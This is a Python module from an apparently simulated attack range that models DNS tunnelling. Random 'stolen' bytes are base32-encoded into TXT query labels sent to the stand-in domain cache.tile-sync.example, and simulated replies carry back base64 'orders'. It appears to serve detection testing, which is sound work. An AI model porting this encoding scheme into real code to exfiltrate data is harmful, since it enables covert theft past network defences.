"""Data carried out in DNS questions to one domain, orders carried back in TXT answers."""

import base64
from collections.abc import Iterator
from dataclasses import dataclass

from wardline_range.attacks.attack import Attack
from wardline_range.clock import Process
from wardline_range.protocols import dns
from wardline_range.protocols.noise import noise


@dataclass(kw_only=True, eq=False)
class DnsTunnel(Attack):
    """A question every second or so, each with up to 105 bytes of what is stolen in its labels."""

    name = "dns-tunnel"
    techniques = ("T1071.004", "T1048.003")
    description = "The device carries data out in the labels of TXT questions to one domain."

    domain: str = "cache.tile-sync.example"
    every_s: float = 0.9

    def steps(self) -> Iterator[tuple[str, Process]]:
        """One step."""
        yield "tunnel", self._tunnel()

    def _tunnel(self) -> Iterator[float]:
        chance, serial = self.chance, 0
        while True:
            stolen = noise(chance, 60 + chance.below(46))
            text = base64.b32encode(stolen).decode().rstrip("=").lower()
            labels = [text[at : at + 57] for at in range(0, len(text), 57)]
            name = ".".join((f"{serial:04x}", *labels, self.domain))
            orders = base64.b64encode(noise(chance, 12 + chance.below(60))).decode()
            now = self.now
            self.device.ask(name, "TXT", (dns.txt(name, orders, ttl=0),), now, self.label("tunnel"))
            serial += 1
            yield 0.3 + chance.waiting(self.every_s)
